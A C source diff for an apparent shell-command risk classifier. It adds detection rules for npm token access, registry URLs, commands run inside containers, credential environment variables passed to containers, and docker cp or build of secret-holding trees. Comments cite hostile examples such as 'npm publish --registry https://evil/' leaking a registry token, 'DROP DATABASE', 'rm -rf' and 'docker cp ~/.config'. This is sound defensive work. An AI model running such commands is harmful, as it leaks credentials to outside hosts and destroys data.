@@ -36,6 +36,8 @@ static const struct verb verbs[] = {
 	{"npm", "view v info show outdated audit doctor search s find ping dist-tag owner "
 	        "access team deprecate", NETF},
 	{"npm", "ls list help why config --version -v prefix root bin", LOW},
+	/* npm token list|create prints registry tokens (it was unknown: medium) */
+	{"npm", "token", TIER_HIGH, "secrets.read", "prints or creates registry tokens (npm token)"},
 	{"yarn", " install add upgrade up dlx create import global link", INST},
 	{"yarn", "remove", RMV},
 	{"yarn", "publish npm", PUB}, {"yarn", "info outdated audit", NETF},
@@ -450,6 +452,20 @@ static const struct word *cargo_watch_cmd(const struct cmdv *c, size_t *i, const
 	return &c->w[*i];
 }
 
+/* The hosts of a package manager's URLs (--registry URL, --index-url=URL,
+ * git+https://host/x): `npm publish --registry https://evil/` sends the
+ * package and the registry's token there, and named no host. */
+static void url_hosts(struct cctx *x, const struct cmdv *c)
+{
+	for (size_t i = 1; i < c->n; i++) {
+		const char *v = c->w[i].val, *eq = strchr(v, '=');
+		if (v[0] == '-' && eq)
+			v = eq + 1;
+		if (strstr(v, "://") && !(c->w[i].flags & W_DYNAMIC))
+			net_add_url(x, v + (strncmp(v, "git+", 4) == 0 ? 4 : 0));
+	}
+}
+
 /* cargo watch [-x CARGO_CMD] [-s|--shell CMD] [-- CMD...]: runs each at
  * start and at every change of the sources. */
 static void cargo_watch(struct cctx *x, struct cmdv *c, size_t at)
@@ -541,6 +557,8 @@ static void rule_pkg(struct cctx *x, struct cmdv *c)
 			cls_add(x, verbs[i].tier, verbs[i].rule, sp, "%s", verbs[i].why);
 		if (verbs[i].rule && strcmp(verbs[i].rule, "pkg.install") == 0)
 			typosquats(x, c, prog, w ? at + 1 : c->n);
+		if (verbs[i].tier >= TIER_HIGH)
+			url_hosts(x, c);
 		return;
 	}
 	if (strcmp(prog, "make") == 0 || strcmp(prog, "yarn") == 0)
@@ -1402,6 +1420,8 @@ static void python_module(struct cctx *x, struct cmdv *c, size_t at)
 			return;
 		case PM_LISTEN:
 			cls_add(x, TIER_HIGH, "net.listen", sp, "serves files on the network");
+			if (strcmp(m, "smtpd") != 0)
+				rules_serves(x, &sub, "db", 'd', false);
 			return;
 		case PM_NET:
 			cls_add(x, TIER_HIGH, "net.fetch", sp, "python -m %s reaches the network", m);
@@ -1764,6 +1784,10 @@ static bool ruby_un(struct cctx *x, const struct cmdv *c, const struct word *cw,
 	if (strcmp(code, "httpd") == 0) {
 		cls_add(x, TIER_HIGH, "net.listen", shell_span_words(x, c->w, c->n),
 		        "ruby -run -e httpd serves files on the network");
+		sub = *c; /* httpd [DIR] [-p PORT]: its own words */
+		sub.w = c->w + at - 1;
+		sub.n = c->n - at + 1;
+		rules_serves(x, &sub, "pb", 0, true);
 		return true;
 	}
 	for (; k < nitems(uns) && strcmp(code, uns[k].fn) != 0; k++)
@@ -1861,6 +1885,7 @@ static void rule_interp(struct cctx *x, struct cmdv *c)
 		if (strcmp(ip->lang, "php") == 0 && strcmp(a, "-S") == 0) {
 			cls_add(x, TIER_HIGH, "net.listen", shell_span_words(x, c->w, c->n),
 			        "php -S serves files on the network");
+			rules_serves(x, c, "Stcdz", 't', false); /* -t DOCROOT, else here */
 			return;
 		}
 		switch (interp_opt(ip, c, i, &cw, &code)) {
@@ -1961,6 +1986,66 @@ static void container_escape(struct cctx *x, struct cmdv *c)
 	}
 }
 
+/* docker|podman [container] exec CTR CMD, compose exec|run SERVICE CMD:
+ * CMD runs in the container as it stands, judged like a local command, as
+ * kubectl exec's is (a database container's `psql -c 'DROP DATABASE'`, an
+ * `rm -rf` of a bind-mounted workdir); it was not judged at all. at: the
+ * verb's index; the options after it that take a value are skipped. */
+static void container_command(struct cctx *x, const struct cmdv *c, size_t at)
+{
+	static const char shorts[] = "euwvpl";
+	static const char longs[] = "--env --env-file --user --workdir --detach-keys --index "
+	                            "--volume --publish --label --name --entrypoint --cap-add "
+	                            "--cap-drop --network --platform --pull";
+	size_t i = at + 1;
+
+	for (; i < c->n && c->w[i].val[0] == '-'; i++) {
+		const char *a = c->w[i].val;
+		size_t l = strlen(a);
+		if (strcmp(a, "--") == 0)
+			break;
+		if (a[1] == '-' ? strchr(a, '=') == NULL && has_verb(longs, a)
+		                : l == 2 && strchr(shorts, a[1]))
+			i++;
+	}
+	if (i + 1 < c->n) /* the container may be named at run time, its command not */
+		rules_argv_run(x, c, i + 1);
+}
+
+/* -e NAME, --env NAME, --build-arg NAME (no =VALUE: the value is this
+ * environment's) and --secret id=x,env=NAME of a credential variable hand
+ * it to the container or the build, which may reach the network: `docker
+ * run -e GITHUB_TOKEN img` was exec.container alone, while `-e
+ * GITHUB_TOKEN=$GITHUB_TOKEN` was secrets.read. */
+static void container_env(struct cctx *x, const struct cmdv *c)
+{
+	static const char *const longs[] = {"--env", "--build-arg"};
+
+	for (size_t i = 1; i < c->n; i++) {
+		const char *a = c->w[i].val, *v = NULL, *e;
+		if (strcmp(a, "-e") == 0 && i + 1 < c->n)
+			v = c->w[i + 1].val;
+		else if (strncmp(a, "-e", 2) == 0 && a[2] && a[1] != '-')
+			v = a + 2;
+		for (size_t k = 0; k < nitems(longs) && v == NULL; k++) {
+			size_t l = strlen(longs[k]);
+			if (strncmp(a, longs[k], l) == 0 && a[l] == '=')
+				v = a + l + 1;
+			else if (strcmp(a, longs[k]) == 0 && i + 1 < c->n)
+				v = c->w[i + 1].val;
+		}
+		if (v == NULL && strncmp(a, "--secret", 8) == 0 && (e = strstr(a, "env=")) != NULL)
+			v = e + 4; /* --secret=id=x,env=NAME */
+		else if (v == NULL && strcmp(a, "--secret") == 0 && i + 1 < c->n &&
+		         (e = strstr(c->w[i + 1].val, "env=")) != NULL)
+			v = e + 4;
+		if (v && !strchr(v, '=') && secrets_env_name(v, strcspn(v, ",")))
+			cls_add(x, TIER_HIGH, "secrets.read", shell_span_word(x, &c->w[i]),
+			        "hands $%.*s from this environment to the container or build",
+			        (int)strcspn(v, ","), v);
+	}
+}
+
 /* docker compose / docker-compose VERB that only shows state. */
 static bool compose_read_only(const struct cmdv *c)
 {
@@ -2003,6 +2088,9 @@ static void rule_compose(struct cctx *x, struct cmdv *c)
 	if (!compose_read_only(c))
 		cls_add(x, TIER_HIGH, "exec.container", shell_span_words(x, c->w, c->n),
 		        "runs or changes containers");
+	if (v && (strcmp(v->val, "exec") == 0 || strcmp(v->val, "run") == 0))
+		container_command(x, c, (size_t)(v - c->w));
+	container_env(x, c);
 }
 
 /* docker -H/--host HOST, --context NAME or DOCKER_HOST / DOCKER_CONTEXT:
@@ -2059,17 +2147,30 @@ static void rule_container(struct cctx *x, struct cmdv *c)
 	if (strcmp(v, "compose") == 0) { /* docker compose VERB */
 		struct cmdv sub = *c;
 		const struct word *cv;
+		size_t k = 0;
 		sub.w = c->w + at;
 		sub.n = c->n - at;
-		cv = opt_first(&sub, "fp", NULL);
+		cv = opt_first(&sub, "fp", &k);
 		container_secrets(x, &sub, cv ? cv->val : "");
 		if (compose_read_only(&sub))
 			return;
-	}
+		if (cv && (strcmp(cv->val, "exec") == 0 || strcmp(cv->val, "run") == 0))
+			container_command(x, c, at + k);
+	} else if (strcmp(v, "exec") == 0)
+		container_command(x, c, at);
+	else if (strcmp(v, "container") == 0 && at + 1 < c->n && strcmp(c->w[at + 1].val, "exec") == 0)
+		container_command(x, c, at + 1);
 	cls_add(x, TIER_HIGH, "exec.container", shell_span_words(x, c->w, c->n),
 	        "%s %s runs or changes containers and images (and may pull from the network)",
 	        c->w[0].val, v);
 	container_escape(x, c);
+	container_env(x, c);
+	/* docker cp ~/.config c:/x, docker build ~ (the context goes to the
+	 * daemon whole): a tree that holds secrets is copied */
+	if (strcmp(v, "cp") == 0 || strcmp(v, "build") == 0 ||
+	    (strcmp(v, "container") == 0 && at + 1 < c->n && strcmp(c->w[at + 1].val, "cp") == 0) ||
+	    (strcmp(v, "buildx") == 0 && at + 1 < c->n && strcmp(c->w[at + 1].val, "build") == 0))
+		rules_tree_operands(x, c, at + 1);
 }
 
 /* ---- SQL clients ---- */
